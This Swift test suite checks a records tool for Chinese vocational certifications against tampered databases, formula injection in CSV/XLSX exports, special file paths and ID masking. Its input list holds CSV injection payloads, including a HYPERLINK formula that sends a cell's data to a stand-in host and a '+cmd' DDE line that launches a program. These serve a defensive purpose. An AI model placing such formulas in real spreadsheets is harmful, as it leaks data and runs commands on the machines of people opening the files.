import Foundation
import Testing

/// the hostile-database corpus of Tests/Corpus/hostile, hostile text through
/// every CSV and XLSX output, write failures, special paths, masking and policy limits.
@Suite("hostile databases, hostile text, write failures and special paths")
struct HostileInputTests {
    static let corpus = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
        .appendingPathComponent("../Corpus/hostile/make.py").standardized.path

    struct Case: Decodable {
        var name: String
        var foundBy: String
    }

    static func python(_ arguments: [String]) -> (code: Int32, out: String) {
        let p = Process()
        p.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        p.arguments = ["python3"] + arguments
        let out = Pipe()
        p.standardOutput = out
        try! p.run()
        let data = out.fileHandleForReading.readDataToEndOfFile()
        p.waitUntilExit()
        return (p.terminationStatus, String(decoding: data, as: UTF8.self))
    }

    static func cases() -> [Case] {
        let listed = python([corpus, "list"])
        return (try? JSONDecoder().decode([Case].self, from: Data(listed.out.utf8))) ?? []
    }

    static func make(_ name: String, _ db: String) {
        #expect(python([corpus, "apply", name, db]).code == 0, "make.py apply \(name)")
    }

    static let id = IDs.make(birth: "19800312", sequence: 123)

    /// A person with a 破格 application, then, as the last change, a unit added.
    static func base() -> Sandbox {
        let s = Sandbox()
        s.today = "2026-03-01"
        s.seed()
        s.person(id, workStart: "2000-07")
        s.ok("cert", "add", id, "--trade", "电工", "--grade", "初级工", "--issued", "2003-06-01")
        s.ok("cert", "add", id, "--trade", "电工", "--grade", "中级工", "--issued", "2023-06-01")
        for year in [2021, 2022, 2023] { s.ok("assessment", "add", id, "--year", String(year), "--result", "合格") }
        for year in [2024, 2025] { s.ok("assessment", "add", id, "--year", String(year), "--result", "优秀") }
        s.ok("education", "add", id, "--level", "高中", "--graduated", "1998-07")
        s.ok("apply", id, "--cycle", "2026", "--grade", "高级工", "--module", "破格", "--condition", "excellent-two-years")
        s.ok("unit", "add", "常州市最后单位")
        return s
    }

    static func head(_ checkOutput: String) -> String? {
        guard let range = checkOutput.range(of: #"[0-9]+:[0-9a-f]{64}"#, options: .regularExpression) else { return nil }
        return String(checkOutput[range])
    }

    @Test("the corpus has every attack of the issue")
    func corpusComplete() {
        let names = Set(Self.cases().map(\.name))
        for name in ["renamed-trigger", "dropped-triggers", "extra-trigger", "extra-table", "extra-view", "altered-trigger",
                     "raise-ignore", "rewritten-chain", "truncated-chain", "flip-trigger"] {
            #expect(names.contains(name), "missing case \(name)")
        }
    }

    @Test("every hostile database is found by check or check --anchor, refused by restore and by a write",
          arguments: cases().map(\.name))
    func hostileDatabase(_ name: String) throws {
        let s = Self.base()
        let clean = s.ok("check")
        let anchor = try #require(Self.head(clean))
        let foundBy = try #require(Self.cases().first { $0.name == name }).foundBy
        let anchorArgs = foundBy == "anchor" ? ["--anchor", anchor] : []

        // Found.
        let hostile = s.folder + "/hostile.sqlite"
        try FileManager.default.copyItem(atPath: s.db, toPath: hostile)
        Self.make(name, hostile)
        let checked = s.run(["check", "--db", hostile] + anchorArgs)
        #expect(checked.code == 1, "\(name): check → \(checked.code)\n\(checked.out)")
        if foundBy == "check" { #expect(checked.out.contains("[schema]") || checked.out.contains("[log-vs-data]")) }
        if foundBy == "anchor" { #expect(checked.out.contains("[anchor]")) }

        // Refused by restore: the current database untouched.
        let before = FileManager.default.contents(atPath: s.db)
        let restored = s.run(["restore", hostile] + anchorArgs)
        #expect(restored.code == 65, "\(name): restore → \(restored.code): \(restored.err)")
        #expect(FileManager.default.contents(atPath: s.db) == before)

        // Refused by a write: gongqin wrote the file last, then the edit.
        s.ok("unit", "add", "常州市又一单位")
        Self.make(name, s.db)
        let err = s.fails(65, "unit", "add", "常州市再一单位")
        #expect(err.contains("gongqin check"))
    }

    @Test("a clean database passes check, prints its head, and its own anchor")
    func cleanAnchor() throws {
        let s = Self.base()
        let anchor = try #require(Self.head(s.ok("check")))
        #expect(s.ok("check", "--anchor", anchor).contains("校验通过"))
        s.ok("unit", "add", "常州市后来单位")
        #expect(s.run("check", "--anchor", anchor).code == 0, "an anchor holds after later writes")
        #expect(s.run("check", "--anchor", "99:" + String(repeating: "a", count: 64)).code == 1)
        #expect(s.run("check", "--anchor", "nonsense").code == 64)
        // The roster, the form and the audit print the head they were made at.
        let now = try #require(Self.head(s.ok("check")))
        #expect(s.ok("audit").contains(now))
        #expect(s.ok("export", "roster", "--cycle", "2026").contains(now))
        #expect(s.ok("form", Self.id, "--cycle", "2026", "--grade", "高级工", "--module", "破格").contains(now))
    }

    // MARK: Hostile text

    static let formulas = ["=1+2", "=HYPERLINK(\"http://x/?d=\"&G2,\"点击\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]

    @Test("names that begin like a formula, and control characters in any argument, exit 65")
    func namesRefused() {
        let s = Sandbox()
        s.seed()
        for text in Self.formulas {
            s.fails(65, "unit", "add", "--", text)
            s.fails(65, "unit", "add", "常州市甲局", "--department=" + text)
            s.fails(65, "person", "add", "--id-number", IDs.make(sequence: 7), "--name=" + text, "--unit", "常州市某局",
                    "--trade", "电工", "--work-start", "2005-07")
        }
        for text in ["\u{1B}[2J清屏", "单位\n伪造行", "单位\r", "\t单位", "单位\u{7F}", "单位\u{9B}"] {
            s.fails(65, "unit", "add", text)
            s.fails(65, "person", "list", "--unit", text)
        }
        // A CSV cell with a control character, or a name like a formula.
        let file = s.folder + "/units.csv"
        #expect(FileManager.default.createFile(atPath: file, contents: Data("name,department\n\"单位\u{1B}[2J\",某局\n".utf8)))
        s.fails(65, "import", "units", file)
        #expect(FileManager.default.createFile(atPath: file, contents: Data("name,department\n\"=1+2\",某局\n".utf8)))
        s.fails(65, "import", "units", file)
    }

    /// The cells of a CSV (RFC 4180).
    static func cells(_ text: String) -> [[String]] {
        var rows: [[String]] = [], row: [String] = [], cell = "", quoted = false, inQuotes = false
        var chars = Array(text.replacingOccurrences(of: "\u{FEFF}", with: ""))[...]
        while let c = chars.popFirst() {
            if inQuotes {
                if c == "\"" {
                    if chars.first == "\"" { cell.append("\""); chars.removeFirst() } else { inQuotes = false }
                } else { cell.append(c) }
            } else if c == "\"" && cell.isEmpty && !quoted {
                inQuotes = true; quoted = true
            } else if c == "," {
                row.append(cell); cell = ""; quoted = false
            } else if c == "\n" || c == "\r\n" {
                row.append(cell); rows.append(row); row = []; cell = ""; quoted = false
            } else { cell.append(c) }
        }
        if !cell.isEmpty || !row.isEmpty { row.append(cell); rows.append(row) }
        return rows
    }

    /// Whether Excel or WPS would evaluate the cell: it begins with = + - @, or with tabs,
    /// CRs or spaces before one of those.
    static func evaluable(_ cell: String) -> Bool {
        guard let first = cell.drop(while: { $0 == "\t" || $0 == "\r" || $0 == " " }).first else { return false }
        return "=+-@".contains(first)
    }

    static func assertSafe(_ csv: String, _ what: String, sourceLocation: SourceLocation = #_sourceLocation) {
        for row in cells(csv) {
            for cell in row { #expect(!evaluable(cell), "\(what): a cell a spreadsheet evaluates: \(cell.debugDescription)", sourceLocation: sourceLocation) }
        }
    }

    @Test("hostile free text: no CSV or XLSX cell is a formula, and every CSV imports back to the same")
    func formulasThroughEveryOutput() throws {
        let s = Sandbox()
        s.today = "2026-03-01"
        s.seed()
        let id = Self.id
        let f = Self.formulas
        s.person(id, workStart: "2000-07", extra: ["--from-province=" + f[0]])
        s.ok("cert", "add", id, "--trade", "电工", "--grade", "初级工", "--issued", "2003-06-01", "--number=" + f[3], "--province=" + f[2])
        s.ok("cert", "add", id, "--trade", "电工", "--grade", "中级工", "--issued", "2023-06-01", "--number=" + f[1])
        s.ok("education", "add", id, "--level", "高中", "--graduated", "1998-07", "--major=" + f[4], "--school=" + f[1])
        s.ok("award", "add", id, "--name", "先进个人", "--date", "2020-05-01", "--issuer=" + f[2])
        for year in [2021, 2022, 2023] { s.ok("assessment", "add", id, "--year", String(year), "--result", "合格") }
        for year in [2024, 2025] { s.ok("assessment", "add", id, "--year", String(year), "--result", "优秀") }
        s.ok("apply", id, "--cycle", "2026", "--grade", "高级工", "--module", "破格", "--condition", "excellent-two-years")

        // stdout CSV of the listings.
        for args in [["person", "list"], ["person", "show", id], ["log"], ["audit"], ["eligible", "--cycle", "2026"],
                     ["explain", id, "--cycle", "2026"], ["check"]] {
            let r = s.run(args + ["--format", "csv"])
            #expect(r.code == 0, "\(args): \(r.err)")
            Self.assertSafe(r.out, args.joined(separator: " "))
        }
        #expect(s.ok("person", "show", id, "--format", "csv").contains("'" + f[3]))
        // Every export, to stdout and to a file, and back in through import.
        let copy = Sandbox()
        copy.today = s.today
        for kind in ["units", "trades", "persons", "certs", "education", "awards", "assessments"] {
            let out = s.ok("export", kind)
            Self.assertSafe(out, "export \(kind)")
            let file = s.folder + "/\(kind).csv"
            s.ok("export", kind, "--output", file)
            let text = try String(contentsOfFile: file, encoding: .utf8)
            Self.assertSafe(text, "export \(kind) --output")
            if kind != "trades" { copy.ok("import", kind, file) } else { copy.ok("import", kind, file, "--update") }
            #expect(copy.ok("export", kind) == out, "\(kind) does not round-trip through import")
        }
        #expect(s.ok("export", "certs").contains("'" + f[3]))
        // The roster: CSV and XLSX.
        let roster = s.folder + "/roster.csv"
        s.ok("export", "roster", "--cycle", "2026", "--output", roster)
        Self.assertSafe(try String(contentsOfFile: roster, encoding: .utf8), "roster csv")
        let book = s.folder + "/roster.xlsx"
        s.ok("export", "roster", "--cycle", "2026", "--output", book)
        let xml = s.run(["__bash__", "unzip -p '\(book)' 'xl/*'"]).out
        #expect(!xml.isEmpty && !xml.contains("<f>") && !xml.contains("<f "), "the xlsx holds a formula")
        // The error report of an import.
        let bad = s.folder + "/bad.csv"
        #expect(FileManager.default.createFile(atPath: bad, contents: Data("id-number,level,graduated,major,school\n\(id),高中,not-a-date,\"\(f[4])\",\"\(f[1].replacingOccurrences(of: "\"", with: "\"\""))\"\n".utf8)))
        let report = s.folder + "/report.csv"
        s.fails(65, "import", "education", bad, "--report", report)
        let reported = try String(contentsOfFile: report, encoding: .utf8)
        Self.assertSafe(reported, "import --report")
        #expect(reported.contains("'" + f[4]))
    }

    // MARK: Write failures

    @Test("every output command into /dev/full exits 74 and names the output")
    func devFull() throws {
        let s = Self.base()
        let id = Self.id
        let commands: [[String]] = [
            ["unit", "list"], ["trade", "list"], ["person", "list"], ["person", "list", "--format", "json"],
            ["person", "list", "--format", "csv"], ["person", "show", id], ["export", "persons"],
            ["export", "units"], ["export", "roster", "--cycle", "2026"], ["log"], ["log", "--format", "json"], ["check"],
            ["audit"], ["eligible", "--cycle", "2026"], ["explain", id, "--cycle", "2026"],
            ["form", id, "--cycle", "2026", "--grade", "高级工", "--module", "破格"], ["application", "list"],
            ["exceptional", "list"], ["policy", "show", "2026"], ["help"],
        ]
        for args in commands {
            let line = args.map { "'\($0)'" }.joined(separator: " ")
            let r = s.run(["__bash__", "GONGQIN_DB='\(s.db)' '\(Sandbox.binary)' \(line) > /dev/full"])
            #expect(r.code == 74, "\(args.joined(separator: " ")) > /dev/full → \(r.code): \(r.err)")
            #expect(r.err.contains("标准输出"), "\(args.joined(separator: " ")): \(r.err)")
        }
        // A device as --output is refused, not written into (behind a .csv name, since any
        // other extension is a usage error first).
        let device = s.folder + "/device.csv"
        try? FileManager.default.createSymbolicLink(atPath: device, withDestinationPath: "/dev/full")
        #expect(s.run(["export", "persons", "--output", device]).code == 65)
        // A file output that cannot be finished (a file-size limit standing in for a full
        // disk): exit 74, naming the file, and nothing left behind.
        let units = s.folder + "/units.csv"
        let rows = (0..<3000).map { "常州市第\($0)号名称很长很长很长很长的单位,常州市某主管局" }
        #expect(FileManager.default.createFile(atPath: units, contents: Data((["name,department"] + rows).joined(separator: "\n").utf8)))
        s.ok("import", "units", units)
        let target = s.folder + "/out/units.csv"
        try FileManager.default.createDirectory(atPath: s.folder + "/out", withIntermediateDirectories: true)
        let limited = s.run(["__bash__", "ulimit -f 100; GONGQIN_DB='\(s.db)' '\(Sandbox.binary)' export units --output '\(target)' 2>&1 | cat; exit ${PIPESTATUS[0]}"])
        #expect(limited.code == 74, "\(limited.out)")
        #expect(limited.out.contains(target))
        #expect(try FileManager.default.contentsOfDirectory(atPath: s.folder + "/out").isEmpty, "a partial file was left")
        #expect(s.run(["export", "persons", "--output", "-"]).out.contains(id))
    }

    // MARK: Paths

    @Test("a dangling link, a FIFO or a device as database, backup or output exits 65, creating nothing")
    func specialPaths() throws {
        let s = Sandbox()
        s.seed()
        let missing = s.folder + "/elsewhere/target.sqlite"
        try FileManager.default.createDirectory(atPath: s.folder + "/elsewhere", withIntermediateDirectories: true)
        let link = s.folder + "/link.sqlite"
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: missing)
        let fifo = s.folder + "/fifo"
        #expect(mkfifo(fifo, 0o600) == 0)
        for path in [link, fifo, "/dev/null"] {
            #expect(s.run("unit", "list", "--db", path).code == 65, "--db \(path)")
            #expect(s.run("unit", "add", "常州市乙局", "--db", path).code == 65, "--db \(path) write")
            #expect(s.run("backup", path).code == 65, "backup \(path)")
            // An output needs a .csv or .xlsx name first (else 64): the same file behind one.
            let output = s.folder + "/" + URL(fileURLWithPath: path).lastPathComponent + "-out.csv"
            try FileManager.default.createSymbolicLink(atPath: output, withDestinationPath: path)
            #expect(s.run("export", "units", "--output", output).code == 65, "--output \(output) → \(path)")
            #expect(s.run("restore", path).code == 65, "restore \(path)")
        }
        #expect(!FileManager.default.fileExists(atPath: missing), "a file was created through the link")
        var info = stat()
        #expect(stat(fifo, &info) == 0 && (info.st_mode & S_IFMT) == S_IFIFO, "the FIFO was replaced")
        // A new backup or export holds ID numbers: mode 0600.
        let backup = s.folder + "/b.sqlite"
        s.ok("backup", backup)
        #expect(stat(backup, &info) == 0 && info.st_mode & 0o777 == 0o600)
        let export = s.folder + "/u.csv"
        s.ok("export", "units", "--output", export)
        #expect(stat(export, &info) == 0 && info.st_mode & 0o777 == 0o600)
    }

    @Test("materials check skips a FIFO in the folder with a notice, without hanging")
    func materialsFIFO() throws {
        let s = Self.base()
        let dir = s.folder + "/scans"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        #expect(mkfifo(dir + "/1申报表.pdf", 0o600) == 0)
        let r = s.run("materials", "check", dir, "--person", Self.id, "--cycle", "2026", "--grade", "高级工", "--module", "破格")
        #expect((r.out + r.err).contains("不是普通文件"), "\(r.out)\(r.err)")
    }

    // MARK: Masking

    @Test("log masks ID numbers, also in the command line; an error masks an invalid ID it echoes")
    func masking() {
        let s = Self.base()
        let id = Self.id
        let masked = String(id.prefix(6)) + "********" + String(id.suffix(4))
        let log = s.ok("log")
        #expect(!log.contains(id) && log.contains(masked))
        #expect(!s.ok("log", "--format", "csv").contains("person add --id-number \(id)"))
        #expect(s.ok("log", "--reveal").contains(id))
        let wrong = String(id.dropLast()) + (id.last == "1" ? "2" : "1")
        let err = s.fails(65, "person", "show", wrong)
        #expect(!err.contains(wrong) && err.contains(String(wrong.prefix(6))))
        #expect(s.run("person", "show", wrong, "--reveal").err.contains(wrong))
    }

    // MARK: Policy limits

    @Test("policy load refuses a file over 1 MB, a string over 1,000 characters and a duplicate key")
    func policyLimits() throws {
        let s = Sandbox()
        s.seed()
        let file = s.folder + "/policy.json"
        #expect(FileManager.default.createFile(atPath: file, contents: Data(repeating: 0x20, count: (1 << 20) + 1)))
        #expect(s.fails(65, "policy", "load", file).contains("KB"))
        #expect(FileManager.default.createFile(atPath: file, contents: Data("{\"year\": 2026, \"source\": \"\(String(repeating: "长", count: 1001))\"}".utf8)))
        #expect(s.fails(65, "policy", "load", file).contains("1000"))
        #expect(FileManager.default.createFile(atPath: file, contents: Data("{\"year\": 2026, \"year\": 2027}".utf8)))
        #expect(s.fails(65, "policy", "load", file).contains("year"))
    }
}
